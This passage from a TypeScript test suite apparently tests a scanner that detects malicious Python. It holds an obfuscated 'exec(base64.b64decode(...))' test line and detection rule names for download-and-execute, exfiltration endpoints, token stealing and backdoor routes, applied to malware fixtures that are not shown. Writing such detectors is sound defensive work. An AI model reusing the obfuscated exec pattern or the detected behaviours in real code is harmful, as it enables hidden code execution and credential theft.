      lines("class A:", "    def __getattr__(self, name):", "        return getattr(self._inner, name)"),
    ];
    for (const code of ordinary) expect(PYTHON_PREFILTER.test(code), code).toBe(false);
    expect(PYTHON_PREFILTER.test(lines("import base64", 'exec(base64.b64decode("eA=="))'))).toBe(true);
  });
});

describe("realistic samples (__fixtures__/python)", () => {
  const fixture = (name: string) =>
    readFileSync(fileURLToPath(new URL(`./__fixtures__/python/${name}`, import.meta.url)), "utf8");

  it("W4SP-style setup.py: the hidden payload, what it downloads, and the install command", () => {
    expect(hits(fixture("w4sp-setup.py"), true)).toEqual([
      "download-exec:6",
      "exec-obfuscated:6",
      "exfil-endpoint:6:high",
      "setup-py-install-code:6:high",
      "encoded-command:19",
      "setup-py-install-code:19:high",
    ]);
  });

  it("fastapi-toolkit-style backdoor route", () => {
    expect(hits(fixture("fastapi-toolkit-backdoor.py"))).toEqual([
      "backdoor-route:29",
      "backdoor-route:32",
      "exec-obfuscated:32",
    ]);
  });

  it("token stealer", () => {
    expect(hits(fixture("token-stealer.py"))).toEqual([
      "secret-exfil:16",
      "secret-exfil:27",
      "exfil-endpoint:39:high",
    ]);
  });
});
